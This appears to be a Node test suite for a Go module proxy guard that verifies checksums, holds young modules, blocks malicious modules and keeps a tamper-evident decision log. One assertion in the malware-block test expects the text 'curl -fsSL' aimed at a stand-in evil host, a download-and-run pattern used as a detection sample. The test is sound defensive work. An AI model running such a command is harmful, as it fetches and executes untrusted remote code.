// The guard over HTTP, with a module proxy and a checksum database behind it that can be made to lie.
import assert from 'node:assert/strict'
import { readFileSync, truncateSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import test from 'node:test'
import { gunzipSync } from 'node:zlib'
import { guarded, lookupOf, urlOf, withGuard } from '../support/guard.ts'
import { evil } from '../support/scanning.ts'
import { filesBelow, flip, publish, withUniverse } from '../support/universe.ts'

const quote = publish('rsc.io/quote', 'v1.5.2')
const newer = publish('rsc.io/quote', 'v1.6.0')
const cased = publish('github.com/Azure/Sdk', 'v1.0.0')

test('serve gives what is proven and allowed: info, mod, zip, list, to GET and HEAD', async () => {
  await guarded([quote, newer, cased], async (guard, u) => {
    const info = await guard.get(urlOf(quote, 'info'))
    assert.deepEqual([info.status, JSON.parse(info.text).Version], [200, 'v1.5.2'])
    assert.equal(info.headers['content-type'], 'application/json')
    const mod = await guard.get(urlOf(quote, 'mod'))
    assert.deepEqual([mod.status, mod.body], [200, Buffer.from(quote.goMod)])
    const zip = await guard.get(urlOf(cased, 'zip'))
    assert.deepEqual([zip.status, zip.headers['content-type']], [200, 'application/zip'])
    assert.deepEqual(zip.body, Buffer.from(cased.zip))
    assert.equal((await guard.get('/rsc.io/quote/@v/list')).text, 'v1.5.2\nv1.6.0\n')
    const head = await guard.get(urlOf(cased, 'zip'), { method: 'HEAD' })
    assert.deepEqual(
      [head.status, head.headers['content-length'], head.body.length],
      [200, String(cased.zip.length), 0],
    )
    const encoded = await guard.get('/github.com/%21azure/%21sdk/@v/v1.0.0.zip')
    assert.equal(encoded.status, 200)
    assert.equal(u.requests.filter((url) => url.endsWith('.zip') && url.includes('!azure')).length, 1)
  })
})

test('serve gives parts of zips, and nothing to who has it already', async () => {
  await guarded([quote], async (guard) => {
    const whole = Buffer.from(quote.zip)
    const part = await guard.get(urlOf(quote, 'zip'), { headers: { range: 'bytes=10-19' } })
    assert.deepEqual([part.status, part.body], [206, whole.subarray(10, 20)])
    assert.equal(part.headers['content-range'], `bytes 10-19/${whole.length}`)
    const tail = await guard.get(urlOf(quote, 'zip'), { headers: { range: 'bytes=-5' } })
    assert.deepEqual([tail.status, tail.body], [206, whole.subarray(-5)])
    const beyond = await guard.get(urlOf(quote, 'zip'), { headers: { range: `bytes=${whole.length}-` } })
    assert.deepEqual([beyond.status, beyond.headers['content-range']], [416, `bytes */${whole.length}`])
    const other = await guard.get(urlOf(quote, 'zip'), { headers: { range: 'bytes=0-1', 'if-range': '"x"' } })
    assert.equal(other.status, 200)
    for (const kind of ['info', 'mod', 'zip'] as const) {
      const { etag } = (await guard.get(urlOf(quote, kind))).headers
      const again = await guard.get(urlOf(quote, kind), { headers: { 'if-none-match': etag ?? '' } })
      assert.deepEqual([kind, again.status, again.body.length], [kind, 304, 0])
    }
  })
})

test('serve says 404 only where the upstream did, in its words, and 5xx for its trouble', async () => {
  await guarded([quote], async (guard, u) => {
    const missing = await guard.get('/rsc.io/nothing/@v/list')
    assert.deepEqual([missing.status, missing.text], [404, 'not here\n'])
    for (const [upstream, expected] of [
      [401, 502],
      [403, 502],
      [429, 503],
      [451, 502],
      [500, 503],
    ] as const) {
      u.lie = (url, response) => {
        if (!url.startsWith('/rsc.io/')) return false
        response.writeHead(upstream, { 'content-type': 'text/plain' }).end('go away')
        return true
      }
      const got = await guard.get(`/rsc.io/s${upstream}/@v/v1.0.0.info`)
      assert.deepEqual([upstream, got.status], [upstream, expected])
      assert.match(got.text, /^\[modwarden\] rsc\.io\/s\d+@v1\.0\.0:\s/)
      assert.match(got.text.replaceAll(/\s+/g, ' '), /go away/)
    }
    u.lie = (url, response) => url.endsWith('.info') && response.end('{"Version":"v9.9.9"}') !== undefined
    assert.equal((await guard.get(urlOf(quote, 'info'))).status, 502)
  })
})

test('serve says 404 for what no proxy has, also where go would go on directly', async () => {
  await withUniverse(async (u) => {
    u.serve([quote])
    const flags = ['--upstream', `${u.base},direct`]
    await withGuard(u, async (guard) => assert.equal((await guard.get('/rsc.io/no/@v/list')).status, 404), flags)
    const alone = await u.run(['serve', '--upstream', 'direct', '--listen', '127.0.0.1:0'])
    assert.equal(alone.code, 2)
    assert.match(alone.stderr, /a guard fetches from module proxies/)
  })
})

test('serve takes the refusal of malware by an upstream for its own', async () => {
  await guarded([quote], async (guard, u) => {
    const said = 'SECURITY ERROR\nThe mirror considers this module to be malicious, see https://example.com/why\n'
    u.lie = (url, response) =>
      url.startsWith('/rsc.io/') && response.writeHead(403, { 'content-type': 'text/plain' }).end(said) !== undefined
    for (const kind of ['info', 'mod', 'zip'] as const) {
      const got = await guard.get(urlOf(quote, kind))
      assert.deepEqual([kind, got.status], [kind, 403])
      assert.match(
        got.text,
        /BLOCKED E-\S+ rsc\.io\/quote@v1\.5\.2\nwhy {3}: .*the module mirror refuses it as malicious/,
      )
    }
  })
})

test('serve refuses what its checksum database does not know or has another hash for', async () => {
  const unlogged = publish('rsc.io/unlogged', 'v1.0.0')
  const forged = publish('rsc.io/quote', 'v1.5.2', { 'quote.go': 'package quote // forged\n' })
  await guarded([quote], async (guard, u) => {
    u.serve([unlogged], { unlogged: true })
    assert.equal((await guard.get(urlOf(unlogged, 'info'))).status, 403)
    const absent = await guard.get(urlOf(unlogged, 'zip'))
    assert.equal(absent.status, 403)
    assert.match(absent.text, /^\[modwarden\] BLOCKED E-[A-Z2-7]{10} rsc\.io\/unlogged@v1\.0\.0\nwhy {3}: unproven: /)
    assert.equal((await guard.get(urlOf(unlogged, 'mod'))).status, 403)
    // The database logs it, just now: it is proven then, and young.
    u.serve([unlogged])
    for (const kind of ['info', 'zip'] as const) {
      const young = await guard.get(urlOf(unlogged, kind))
      assert.deepEqual([kind, young.status], [kind, 403])
      assert.match(
        young.text,
        /HELD E-.*\nwhy {3}: first logged less than 3 days ago; opens 20\d\d-\d\d-\d\d \d\d:\d\dZ\n/,
      )
    }
    assert.equal((await guard.get(urlOf(unlogged, 'mod'))).status, 200)
    assert.equal((await guard.get('/rsc.io/unlogged/@v/list')).text, '')
    u.served.set('rsc.io/quote@v1.5.2', { ...forged, goMod: Buffer.from('module rsc.io/quote\n\ngo 1.99\n') })
    for (const kind of ['mod', 'zip'] as const) {
      const wrong = await guard.get(urlOf(quote, kind))
      assert.deepEqual([kind, wrong.status], [kind, 502])
      assert.match(wrong.text, /is not what the checksum database has on record/)
    }
    // The upstream mends its ways: nothing is held against the module.
    u.served.set('rsc.io/quote@v1.5.2', quote)
    assert.deepEqual((await guard.get(urlOf(quote, 'zip'))).body, Buffer.from(quote.zip))
  })
})

test('serve blocks malware with 403, as go shows it, and leaves it out of the lists', async () => {
  const before = publish('rsc.io/evil', 'v0.9.0')
  await guarded([before, evil], async (guard) => {
    assert.equal((await guard.get('/rsc.io/evil/@v/list')).text, 'v0.9.0\n')
    const zip = await guard.get(urlOf(evil, 'zip'))
    assert.equal(zip.status, 403)
    assert.equal(zip.headers['content-type'], 'text/plain; charset=utf-8')
    assert.match(zip.text, /^\[modwarden\] BLOCKED (E-[A-Z2-7]{10}) rsc\.io\/evil@v1\.0\.0\nwhy {3}: /)
    assert.ok(zip.text.split('\n').length <= 9 && zip.body.length <= 600, zip.text)
    assert.equal((await guard.get(urlOf(evil, 'mod'))).status, 200)
    const event = /E-[A-Z2-7]{10}/.exec(zip.text)?.[0] ?? ''
    const page = await guard.get(`/e/${event}`)
    assert.equal(page.status, 200)
    assert.match(page.text, /rsc\.io\/evil@v1\.0\.0/)
    assert.match(page.text, /curl -fsSL https:\/\/cdn\.evil\.invalid\/setup/)
    assert.doesNotMatch(page.text, /<script/)
    const json = await guard.get(`/e/${event}`, { headers: { accept: 'application/json' } })
    assert.deepEqual([JSON.parse(json.text).action, JSON.parse(json.text).h1], ['block', evil.h1])
    assert.equal(json.headers['cache-control'], 'no-store')
    assert.match((await guard.get('/')).text, new RegExp(event))
    assert.match((await guard.get('/metrics')).text, /^modwarden_blocks_total\{rule="MW-[A-Z-]+",action="block"\} 1$/m)
  })
})

test('serve looks for what may be taken instead no further than it must: each look is a decision in the log', async () => {
  const older = ['v1.0.0', 'v1.1.0', 'v1.2.0', 'v1.3.0'].map((version) => publish('rsc.io/evil', version))
  const bad = publish('rsc.io/evil', 'v1.4.0', Object.fromEntries(evil.files))
  await guarded([...older, bad], async (guard) => {
    assert.match((await guard.get(urlOf(bad, 'zip'))).text, /go get rsc\.io\/evil@v1\.3\.0/)
    const { decisions } = JSON.parse((await guard.get('/api/v1/decisions')).text)
    assert.deepEqual(
      new Set(decisions.map(({ version }: { version: string }) => version)),
      new Set(['v1.3.0', 'v1.4.0']),
    )
  })
})

test('serve fetches once for any number of clients, and who goes away stops nobody', async () => {
  await guarded([quote], async (guard, u) => {
    const gone = new AbortController()
    const first = fetch(`${guard.base}${urlOf(quote, 'zip')}`, { signal: gone.signal }).catch(() => undefined)
    const all = Array.from({ length: 300 }, async () => guard.get(urlOf(quote, 'zip')))
    gone.abort()
    await first
    for (const got of await Promise.all(all)) {
      assert.equal(got.status, 200)
      assert.deepEqual(got.body, Buffer.from(quote.zip))
    }
    assert.equal(u.requests.filter((url) => url.endsWith('.zip')).length, 1)
  })
})

test('serve never gives a stored file that changed: it is fetched again, or 503', async () => {
  await guarded([quote], async (guard, u) => {
    for (const kind of ['info', 'mod', 'zip'] as const) await guard.get(urlOf(quote, kind))
    const zip = filesBelow(path.join(guard.data, 'modules')).find((file) => file.endsWith('.zip')) ?? ''
    // The hot set is asked for nothing conditional: this reads the disk.
    const options = { headers: { 'if-none-match': '"another"' } }
    flip(zip)
    assert.deepEqual((await guard.get(urlOf(quote, 'zip'), options)).body, Buffer.from(quote.zip))
    truncateSync(zip, 100)
    assert.deepEqual((await guard.get(urlOf(quote, 'zip'), options)).body, Buffer.from(quote.zip))
    assert.equal(u.requests.filter((url) => url.endsWith('.zip')).length, 3)
    flip(zip)
    u.lie = (url, response) => url.endsWith('.zip') && response.writeHead(500).end() !== undefined
    const cannot = await guard.get(urlOf(quote, 'zip'), options)
    assert.equal(cannot.status, 503)
    assert.match((await guard.get('/metrics')).text, /^modwarden_damaged_files 3$/m)
    assert.equal(filesBelow(path.join(guard.data, 'evidence')).length, 3)
  })
})

test('serve goes on without upstream and database for what it has, after a restart too', async () => {
  await withUniverse(async (u) => {
    u.serve([quote, newer])
    await withGuard(u, async (guard) => {
      for (const kind of ['info', 'mod', 'zip'] as const)
        assert.equal((await guard.get(urlOf(quote, kind))).status, 200)
      assert.equal((await guard.get(lookupOf(u, quote))).status, 200)
      assert.equal(await guard.stop(), 143)
    })
    u.lie = (_, response) => response.writeHead(503).end() !== undefined
    await withGuard(u, async (guard) => {
      for (const kind of ['info', 'mod', 'zip'] as const)
        assert.equal((await guard.get(urlOf(quote, kind))).status, 200)
      assert.equal((await guard.get(lookupOf(u, quote))).status, 200)
      assert.equal((await guard.get(`/sumdb/${u.db.name}/supported`)).status, 200)
      assert.equal((await guard.get(urlOf(newer, 'zip'))).status, 503)
    })
  })
})

test('serve with Disable-Module-Fetch gives what it has, and asks nobody', async () => {
  await guarded([quote], async (guard, u) => {
    const headers = { 'disable-module-fetch': 'true' }
    assert.equal((await guard.get(urlOf(quote, 'zip'), { headers })).status, 404)
    assert.equal((await guard.get(urlOf(quote, 'zip'))).status, 200)
    const asked = u.requests.length
    assert.equal((await guard.get(urlOf(quote, 'zip'), { headers })).status, 200)
    assert.equal(u.requests.length, asked)
  })
})

test('serve gives the checksum database proven, and only the one that it verifies', async () => {
  await guarded([quote, newer], async (guard, u) => {
    const below = `/sumdb/${u.db.name}`
    assert.equal((await guard.get(`${below}/supported`)).status, 200)
    assert.equal((await guard.get('/sumdb/other.example/supported')).status, 404)
    const lookup = await guard.get(lookupOf(u, quote))
    assert.match(
      lookup.text,
      /^0\nrsc\.io\/quote v1\.5\.2 h1:\S+\nrsc\.io\/quote v1\.5\.2\/go\.mod h1:\S+\n\ngo\.sum database tree\n/,
    )
    const tile = await guard.get(`${below}/tile/8/0/000.p/2`)
    assert.deepEqual(tile.body, Buffer.from(u.db.get('/tile/8/0/000.p/2')))
    assert.equal((await guard.get(`${below}/tile/8/0/000.p/200`)).status, 404)
    assert.equal((await guard.get(`${below}/lookup/rsc.io/nothing@v1.0.0`)).status, 404)
    assert.equal((await guard.get(`${below}/lookup/../../x@v1.0.0`)).status, 400)
    assert.equal(Buffer.compare((await guard.get(`${below}/latest`)).body, Buffer.from(u.db.signedHead())), 0)
  })
})

test('serve compresses long texts and keeps short ones as they are', async () => {
  const many = Array.from({ length: 300 }, (_, i) => publish('rsc.io/many', `v1.0.${i}`))
  await guarded(many, async (guard) => {
    const packed = await guard.get('/rsc.io/many/@v/list', { headers: { 'accept-encoding': 'gzip' } })
    assert.equal(packed.headers['content-encoding'], 'gzip')
    assert.equal(gunzipSync(packed.body).toString().split('\n').length, 301)
  })
})

test('serve keeps its decisions in a log that proves itself, and says where it was changed', async () => {
  await withUniverse(async (u) => {
    u.serve([quote, evil])
    let data = ''
    await withGuard(u, async (guard) => {
      data = guard.data
      await guard.get(urlOf(quote, 'zip'))
      await guard.get(urlOf(evil, 'zip'))
      await guard.stop()
    })
    const verified = await u.run(['log', 'verify', '--data', data])
    assert.match(verified.stdout, /^ok {2}2 decisions, /)
    assert.equal(verified.code, 0)
    const exported = await u.run(['log', 'export', '--data', data])
    const actions = exported.stdout
      .trim()
      .split('\n')
      .map((line) => (JSON.parse(line) as { action: string }).action)
    assert.deepEqual(actions, ['allow', 'block'])
    const { DatabaseSync } = await import('node:sqlite')
    const tables = new DatabaseSync(path.join(data, 'guard.db'))
    tables.exec(`UPDATE decisions SET leaf = replace(leaf, '"action":"block"', '"action":"allow"')`)
    tables.close()
    const changed = await u.run(['log', 'verify', '--data', data])
    assert.equal(changed.code, 4)
    assert.match(changed.stdout, /^BROKEN {2}decision 1 is not the one that was logged$/m)
  })
})

test('serve says what is wrong with its settings', async () => {
  await withUniverse(async (u) => {
    for (const [flags, expected] of [
      [['--listen', 'here'], /listen: "here" is not HOST:PORT/],
      [['--url', 'ftp://x'], /url: "ftp:\/\/x" is not an http or https address/],
      [['--mode', 'lax'], /mode: "lax" is neither enforce nor monitor/],
    ] as const) {
      const ran = await u.run(['serve', ...flags])
      assert.equal(ran.code, 2)
      assert.match(ran.stderr, expected)
    }
    writeFileSync(path.join(u.root, 'log.key'), 'none\n')
    const ran = await u.run(['serve', '--data', u.root, '--listen', '127.0.0.1:0'])
    assert.match(ran.stderr, /log\.key: is no key of a decision log/)
    assert.equal(readFileSync(path.join(u.root, 'log.key'), 'utf8'), 'none\n')
  })
})
